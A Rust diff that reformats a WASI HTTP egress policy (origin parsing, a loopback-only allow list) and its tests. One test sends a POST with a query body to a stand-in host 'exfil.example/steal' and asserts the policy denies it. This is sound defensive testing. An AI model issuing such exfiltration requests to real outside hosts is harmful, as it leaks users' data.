@@ -28,11 +28,8 @@ impl fmt::Display for Origin {
 impl Origin {
     /// Parses `scheme://host[:port][/...]`.
     pub fn parse(url: &str) -> Result<Origin, String> {
-        let uri: http::Uri = url
-            .parse()
-            .map_err(|e| format!("`{url}` is not a URL: {e}"))?;
-        Origin::from_uri(&uri)
-            .ok_or_else(|| format!("`{url}` must be an absolute http:// or https:// URL"))
+        let uri: http::Uri = url.parse().map_err(|e| format!("`{url}` is not a URL: {e}"))?;
+        Origin::from_uri(&uri).ok_or_else(|| format!("`{url}` must be an absolute http:// or https:// URL"))
     }
 
     fn from_uri(uri: &http::Uri) -> Option<Origin> {
@@ -42,11 +39,7 @@ impl Origin {
             "http" => Some(80),
             _ => None,
         })?;
-        let host = uri
-            .host()?
-            .trim_start_matches('[')
-            .trim_end_matches(']')
-            .to_ascii_lowercase();
+        let host = uri.host()?.trim_start_matches('[').trim_end_matches(']').to_ascii_lowercase();
         Some(Origin { scheme, host, port })
     }
 
@@ -148,8 +141,7 @@ impl WasiHttpHooks for Policy {
         };
         Box::new(async move {
             use http_body_util::BodyExt;
-            let (response, io) =
-                wasmtime_wasi_http::default_send_request(request, Some(options)).await?;
+            let (response, io) = wasmtime_wasi_http::default_send_request(request, Some(options)).await?;
             Ok((
                 response.map(BodyExt::boxed_unsync),
                 Box::new(io) as Box<dyn Future<Output = _> + Send>,
@@ -164,14 +156,7 @@ mod tests {
 
     #[test]
     fn plain_http_only_on_loopback() {
-        assert!(
-            AllowList::new(&[
-                "http://127.0.0.1:8080".into(),
-                "http://[::1]:1".into(),
-                "http://localhost".into()
-            ])
-            .is_ok()
-        );
+        assert!(AllowList::new(&["http://127.0.0.1:8080".into(), "http://[::1]:1".into(), "http://localhost".into()]).is_ok());
         let e = AllowList::new(&["http://graph.microsoft.com".into()]).unwrap_err();
         assert!(e.contains("loopback"), "{e}");
         assert!(AllowList::new(&["ftp://x".into()]).is_err());
@@ -188,19 +173,11 @@ mod tests {
         let body = Full::new(bytes::Bytes::from_static(b"{\"Query\":\"x\"}"))
             .map_err(|never| match never {})
             .boxed_unsync();
-        let request = http::Request::post("https://exfil.example/steal")
-            .body(body)
-            .unwrap();
+        let request = http::Request::post("https://exfil.example/steal").body(body).unwrap();
         let future = policy.send_request(request, None, Box::new(async { Ok(()) }));
-        let runtime = tokio::runtime::Builder::new_current_thread()
-            .enable_all()
-            .build()
-            .unwrap();
+        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
         let result = runtime.block_on(Box::into_pin(future));
-        assert!(matches!(
-            result,
-            Err(wasmtime_wasi_http::Error::HttpRequestDenied)
-        ));
+        assert!(matches!(result, Err(wasmtime_wasi_http::Error::HttpRequestDenied)));
     }
 
     #[test]
